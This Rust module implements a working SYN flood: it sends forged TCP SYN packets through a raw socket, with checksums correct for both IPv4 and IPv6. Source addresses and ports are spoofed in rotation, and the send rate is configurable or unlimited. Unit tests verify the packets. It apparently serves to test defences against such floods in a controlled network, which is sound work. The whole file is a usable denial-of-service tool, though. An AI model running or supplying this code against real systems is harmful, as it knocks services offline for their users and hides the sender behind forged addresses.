//! A flood of SYNs with sources of one's choosing, through a raw socket: what an attacker with one machine sends.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// What is sent.
#[derive(Clone, Debug)]
pub struct Plan {
    /// The first source; the last bits are counted up from it.
    pub source: IpAddr,
    /// So many sources, one after the other.
    pub sources: u32,
    /// Where to.
    pub destination: SocketAddr,
    /// SYNs a second; 0 = as many as the machine gives.
    pub per_second: u64,
    /// Ends by itself after so many; 0 = when it is stopped.
    pub count: u64,
}

/// A running flood; dropping it ends it.
#[derive(Debug)]
pub struct Flood {
    shared: Arc<Shared>,
    thread: Option<JoinHandle<io::Result<()>>>,
}

#[derive(Debug, Default)]
struct Shared {
    stop: AtomicBool,
    sent: AtomicU64,
}

/// SYNs between two looks at the clock.
const BATCH: u64 = 32;

impl Flood {
    /// Starts it, from the namespace of the calling thread.
    ///
    /// # Errors
    /// Without CAP_NET_RAW.
    pub fn start(plan: Plan) -> io::Result<Self> {
        let socket = raw(plan.destination.ip())?;
        let shared = Arc::<Shared>::default();
        let for_thread = shared.clone();
        let thread = std::thread::Builder::new()
            .name("flood".to_owned())
            .spawn(move || send(&plan, &socket, &for_thread))?;
        Ok(Self { shared, thread: Some(thread) })
    }

    /// SYNs given to the kernel so far.
    pub fn sent(&self) -> u64 {
        self.shared.sent.load(Ordering::Relaxed)
    }

    /// Waits for its end, which a `count` brings; the SYNs sent.
    ///
    /// # Errors
    /// What the socket said.
    pub fn finish(mut self) -> io::Result<u64> {
        self.join()?;
        Ok(self.sent())
    }

    /// Ends it; the SYNs sent.
    ///
    /// # Errors
    /// What the socket said.
    pub fn stop(self) -> io::Result<u64> {
        self.shared.stop.store(true, Ordering::Relaxed);
        self.finish()
    }

    fn join(&mut self) -> io::Result<()> {
        match self.thread.take().map(JoinHandle::join) {
            None => Ok(()),
            Some(Ok(done)) => done,
            Some(Err(_)) => Err(io::Error::other("the flood has panicked")),
        }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.shared.stop.store(true, Ordering::Relaxed);
        let _ = self.join();
    }
}

/// A socket that takes whole IP packets (raw(7), IPPROTO_RAW).
fn raw(to: IpAddr) -> io::Result<Socket> {
    let domain = if to.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
    let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(255)))?;
    socket.set_send_buffer_size(4 << 20)?;
    Ok(socket)
}

fn send(plan: &Plan, socket: &Socket, shared: &Shared) -> io::Result<()> {
    // A raw socket of IPv6 takes no port.
    let to = SockAddr::from(SocketAddr::new(plan.destination.ip(), 0));
    let start = Instant::now();
    let mut number = 0_u64;
    while !shared.stop.load(Ordering::Relaxed) && (plan.count == 0 || number < plan.count) {
        for _ in 0..BATCH.min(if plan.count == 0 { BATCH } else { plan.count - number }) {
            // A full queue is part of a flood.
            match socket.send_to(&packet(plan, number), &to) {
                Ok(_) => drop(shared.sent.fetch_add(1, Ordering::Relaxed)),
                Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => {}
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(error) => return Err(error),
            }
            number += 1;
        }
        pace(plan, start, number);
    }
    Ok(())
}

/// Waits until the rate allows more.
fn pace(plan: &Plan, start: Instant, number: u64) {
    if plan.per_second == 0 {
        return;
    }
    let due = Duration::from_nanos(number * 1_000_000_000 / plan.per_second);
    if let Some(early) = due.checked_sub(start.elapsed()) {
        std::thread::sleep(early);
    }
}

/// The SYN of that number, from the IP header on, with right checksums: the stack behind is to take it for real.
fn packet(plan: &Plan, number: u64) -> Vec<u8> {
    let step = (number % u64::from(plan.sources.max(1))) as u32;
    // Sources take turns, and each comes from another port every time.
    let port = 1024 + (number / u64::from(plan.sources.max(1)) % 64_000) as u16;
    let sequence = (number as u32).wrapping_mul(0x9e37_79b1);
    let tcp = |pseudo: u32| tcp(port, plan.destination.port(), sequence, pseudo);
    match (plan.source, plan.destination.ip()) {
        (IpAddr::V4(from), IpAddr::V4(to)) => {
            v4(Ipv4Addr::from_bits(from.to_bits().wrapping_add(step)), to, tcp)
        }
        (IpAddr::V6(from), IpAddr::V6(to)) => {
            // Another /64 each: that is what counts as a source.
            let from = Ipv6Addr::from_bits(from.to_bits().wrapping_add(u128::from(step) << 64));
            v6(from, to, tcp)
        }
        _ => Vec::new(),
    }
}

fn v4(from: Ipv4Addr, to: Ipv4Addr, tcp: impl Fn(u32) -> [u8; 20]) -> Vec<u8> {
    let mut out = vec![0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
    out.extend(from.octets());
    out.extend(to.octets());
    let addresses = sum(&out[12..20]);
    let header = folded(sum(&out)).to_be_bytes();
    out[10..12].copy_from_slice(&header);
    out.extend(tcp(addresses));
    out
}

fn v6(from: Ipv6Addr, to: Ipv6Addr, tcp: impl Fn(u32) -> [u8; 20]) -> Vec<u8> {
    let mut out = vec![0x60, 0, 0, 0, 0, 20, 6, 64];
    out.extend(from.octets());
    out.extend(to.octets());
    let addresses = sum(&out[8..40]);
    out.extend(tcp(addresses));
    out
}

/// RFC 9293, 3.1; `addresses` is the sum of both addresses' words.
fn tcp(from: u16, to: u16, sequence: u32, addresses: u32) -> [u8; 20] {
    let mut out = [0; 20];
    out[..2].copy_from_slice(&from.to_be_bytes());
    out[2..4].copy_from_slice(&to.to_be_bytes());
    out[4..8].copy_from_slice(&sequence.to_be_bytes());
    out[12..14].copy_from_slice(&[0x50, 0x02]);
    out[14..16].copy_from_slice(&0xfaf0_u16.to_be_bytes());
    let checksum = folded(addresses + 6 + 20 + sum(&out));
    out[16..18].copy_from_slice(&checksum.to_be_bytes());
    out
}

/// The 16-bit words of these bytes, added up (RFC 1071).
pub fn sum(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|word| u32::from(word[0]) << 8 | u32::from(*word.get(1).unwrap_or(&0))).sum()
}

/// The checksum over what came to this sum (RFC 1071).
pub fn folded(sum: u32) -> u16 {
    let once = (sum & 0xffff) + (sum >> 16);
    !(((once & 0xffff) + (once >> 16)) as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(source: &str, destination: &str) -> Plan {
        let (source, destination) = (source.parse().unwrap(), destination.parse().unwrap());
        Plan { source, sources: 300, destination, per_second: 0, count: 0 }
    }

    #[test]
    fn packets_have_right_checksums() {
        for number in [0, 1, 299, 300, 123_456_789] {
            let out = packet(&plan("198.51.100.200", "192.0.2.1:443"), number);
            assert_eq!(out.len(), 40);
            assert_eq!(folded(sum(&out[..20])), 0, "IPv4 header");
            assert_eq!(folded(sum(&out[12..]) + 6 + 20), 0, "TCP");
            let out = packet(&plan("2001:db8:1::1", "[2001:db8::1]:443"), number);
            assert_eq!(out.len(), 60);
            assert_eq!(folded(sum(&out[8..]) + 6 + 20), 0, "TCP over IPv6");
        }
    }

    #[test]
    fn sources_are_counted_up() {
        let v4 = packet(&plan("198.51.100.200", "192.0.2.1:443"), 100);
        assert_eq!(v4[12..16], [198, 51, 101, 44]);
        let v6 = packet(&plan("2001:db8:1::1", "[2001:db8::1]:443"), 2);
        assert_eq!(v6[8..16], [0x20, 1, 0xd, 0xb8, 0, 1, 0, 2]);
    }
}
